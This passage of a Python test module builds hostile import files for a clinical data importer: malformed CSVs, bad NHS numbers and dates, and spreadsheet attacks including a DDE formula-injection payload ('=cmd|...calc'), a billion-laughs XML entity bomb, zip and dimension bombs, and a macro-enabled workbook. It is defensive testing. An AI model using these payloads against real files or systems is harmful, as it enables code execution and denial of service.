    yield Hostile("newline-mixed-bad-row.csv", "line ends", lambda: (",".join(CANONICAL) + "\r\n" + ",".join(person(n[0])) + "\n" + ",".join(person(n[1], sex="Q")) + "\r" + ",".join(person(n[2])) + "\r\n").encode(), ROWS, (3,))  # fmt: skip
    multiline = [
        person(n[0], address="1 High Street\nRiverside\r\nZZ99"),
        person(n[1], address='Flat "B",\n2 Mill Lane'),
    ]
    yield Hostile("quoted-newlines.csv", "quoting", encoded(CANONICAL, multiline), IMPORTS, patients=2)
    yield Hostile("quoted-newlines-bad-row.csv", "quoting", encoded(CANONICAL, [*multiline, person(n[2], sex="Q")]), ROWS, (4,))  # fmt: skip
    yield Hostile("quote-unclosed.csv", "quoting", lambda: ( text(CANONICAL, one).encode() + b'"' + n[1].encode() + b",Ada\r\n" + text(CANONICAL, one).encode() ), ROWS, (3,))  # fmt: skip
    yield Hostile("quote-stray.csv", "quoting", lambda: text(CANONICAL, []).encode() + ",".join(person(n[0], given_name='A"da')).encode() + b"\r\n", IMPORTS, patients=1)  # fmt: skip
    yield Hostile("quote-nul-in-quotes.csv", "quoting", lambda: ( text(CANONICAL, []).encode() + ",".join(person(n[0], given_name='"A\x00da"')).encode() + b"\r\n" ), ROWS, (2,))  # fmt: skip

    # EMIS export (several rows a patient, filled down).
    emis_rows = [emis(n[0]), ["", "", "", "", "", "01-Jan-2021", "Essential hypertension"]]
    yield Hostile("emis-good.csv", "EMIS", encoded(EMIS, emis_rows, "cp1252"), IMPORTS, patients=1, profile="emis-search")  # fmt: skip
    yield Hostile("emis-fill-down-bad.csv", "EMIS", encoded( EMIS, [*emis_rows, emis(n[1], **{"Date of Birth": "31-Feb-1950"}), ["", "", "", "", "", "", "Asthma"]], ), ROWS, (4, 5), profile="emis-search")  # fmt: skip
    yield Hostile("emis-contradiction.csv", "EMIS", encoded(EMIS, [emis(n[0]), emis(n[0], Gender="Male")]), ROWS, (2, 3), profile="emis-search")  # fmt: skip
    yield Hostile("emis-canonical-file.csv", "EMIS", encoded(CANONICAL, two), profile="emis-search")
    yield Hostile("emis-nul-fill-down.csv", "EMIS", encoded(EMIS, [emis(n[0], **{"Full Name": "LOVE\x00LACE, Ada"}), ["", "", "", "", "", "", "Asthma"]]), ROWS, (2, 3), profile="emis-search")  # fmt: skip


def _empty_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w"):
        pass
    return buffer.getvalue()


def _without(data: bytes, part: str) -> bytes:
    source, buffer = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as target:
        for info in source.infolist():
            if info.filename != part:
                target.writestr(info, source.read(info))
    return buffer.getvalue()


def _billion_laughs() -> bytes:
    entities = '<!ENTITY a0 "lol">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    return (
        f'<?xml version="1.0"?><!DOCTYPE w [{entities}]><worksheet xmlns="{_NS}"><sheetData><row r="1">'
        '<c r="A1" t="inlineStr"><is><t>&a9;</t></is></c></row></sheetData></worksheet>'
    ).encode()


def feeds() -> Iterator[Hostile]:
    n = NUMBERS[200:]
    two = [event(n[0]), event(n[1], Event="Hospital discharge")]

    def feed(
        name: str,
        kind: str,
        make: Callable[[], bytes],
        expect: str = REFUSED,
        rows: tuple[int, ...] = (),
        events: int = 0,
        **options: object,
    ) -> Hostile:
        return Hostile(f"feed-{name}", kind, make, expect, rows, events, feed=True, **options)  # type: ignore[arg-type]

    yield feed("good.csv", "feed", encoded(FEED, two), IMPORTS, events=2)
    yield feed("good.xlsx", "feed", workbook(FEED, two), IMPORTS, events=2)
    yield feed("cp1252.csv", "feed", encoded(FEED, [event(n[0], Provider="St Thomas’ – A&E")], "cp1252"), IMPORTS, events=1)  # fmt: skip
    yield feed("empty.csv", "feed", raw(b""))
    yield feed("header-only.csv", "feed", encoded(FEED, []), IMPORTS, events=0)
    yield feed("utf-16.csv", "feed", encoded(FEED, two, "utf-16"))
    yield feed("semicolon.csv", "feed", encoded(FEED, two, delimiter=";"))
    yield feed("tab.csv", "feed", encoded(FEED, two, delimiter="\t"))
    yield feed("missing-event-date.csv", "feed", encoded( [h for h in FEED if h != "Event Date"], [[c for h, c in zip(FEED, event(n[0]), strict=True) if h != "Event Date"]], ))  # fmt: skip
    yield feed("duplicate-header.csv", "feed", encoded([*FEED, "NHS Number"], [[*event(n[0]), n[1]]]))
    yield feed("population-file.csv", "feed", encoded(CANONICAL, valid(2)))
    yield feed("nul.csv", "feed", encoded(FEED, [event(n[0]), event(n[1], Summary="a\x00b")]), ROWS, (3,))
    yield feed("nul-header.csv", "feed", lambda: text(FEED, two).replace("Event", "Ev\x00ent", 1).encode())
    for name, when in (("31-02", "31/02/2026 10:00"), ("future", "01/01/2099 10:00"), ("year-1800", "01/01/1800 10:00"),
                       ("no-time", "01/10/2026"), ("us", "10/31/2026 10:00"), ("25-oclock", "01/10/2026 25:00"), ("blank", "")):  # fmt: skip
        yield feed(f"date-{name}.csv", "feed dates", encoded(FEED, [event(n[0]), event(n[1], **{"Event Date": when})]), ROWS, (3,))  # fmt: skip
    for name, number in (
        ("check-digit", bad_check_digit(n[0])),
        ("9-digits", n[0][:9]),
        ("letters", n[0][:9] + "X"),
        ("blank", ""),
    ):
        yield feed(f"nhs-{name}.csv", "feed NHS numbers", encoded(FEED, [event(n[1]), event(number)]), ROWS, (3,))  # fmt: skip
    yield feed("other-practice.csv", "feed other practice", encoded(FEED, [event(n[0]), event(OTHER_PRACTICE_PATIENT)]), ROWS, (3,))  # fmt: skip
    yield feed("unknown-event.csv", "feed", encoded(FEED, [event(n[0], Event="Alien abduction")]), ROWS, (2,))
    yield feed("long-provider.csv", "feed", encoded(FEED, [event(n[0], Provider="P" * 201)]), ROWS, (2,))
    yield feed("cell-10mb.csv", "feed", encoded(FEED, [event(n[0], Summary="S" * 10_485_760)]), big=True)
    yield feed("cell-6000.csv", "feed", encoded(FEED, [event(n[0], Summary="S" * 6000)]), ROWS, (2,))
    for index, payload in enumerate(["=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-1+1"]):
        yield feed(f"formula-{index}-in-date.csv", "feed formula", encoded(FEED, [event(n[0], **{"Event Date": payload})]), ROWS, (2,))  # fmt: skip
        yield feed(f"formula-{index}-in-summary.csv", "feed formula", encoded(FEED, [event(n[index + 2], Summary=payload, Provider=payload)]), IMPORTS, events=1)  # fmt: skip
    yield feed("zip-bomb.xlsx", "feed", lambda: _bomb(FEED, event(n[0])), big=True)
    yield feed("dimension-bomb.xlsx", "feed", lambda: xlsx( sheet_xml( [FEED, event(n[0])], dimension="A1:XFD1048576", extra_rows='<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>', ) ), ROWS, (1_048_576,))  # fmt: skip
    yield feed("xlsm.xlsx", "feed", lambda: xlsx( sheet_xml([FEED, event(n[0])]), parts={"xl/vbaProject.bin": b"macro"}, workbook_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml", ))  # fmt: skip
    yield feed("text-named.xlsx", "feed", raw(b"not a spreadsheet"))
    yield feed("corrupt.xlsx", "feed", raw(b"PK\x03\x04" + bytes(range(256))))
    yield feed("truncated.xlsx", "feed", lambda: xlsx(sheet_xml([FEED, *two]))[:300])
    yield feed("no-sheet.xlsx", "feed", lambda: xlsx(None))
    yield feed("empty-rows.csv", "feed", lambda: text(FEED, [event(n[0], Event="?")]).encode() + b"\r\n" * 500_000, ROWS, (2,))  # fmt: skip
    yield feed("quoted-newlines.csv", "feed", encoded(FEED, [event(n[0], Summary="Fall\nat home"), event(n[1], Event="?")]), ROWS, (3,))  # fmt: skip
    yield feed("cr.csv", "feed", encoded(FEED, [event(n[0]), event(n[1], Event="?")], newline="\r"), ROWS, (3,))  # fmt: skip


def corpus() -> list[Hostile]:
    files = [
        replace(file, name=re.sub(r"[^A-Za-z0-9._-]", "-", file.name)) for file in (*population(), *feeds())
    ]
    names = [file.name for file in files]
    assert len(set(names)) == len(names), "each file needs its own name"
    return files
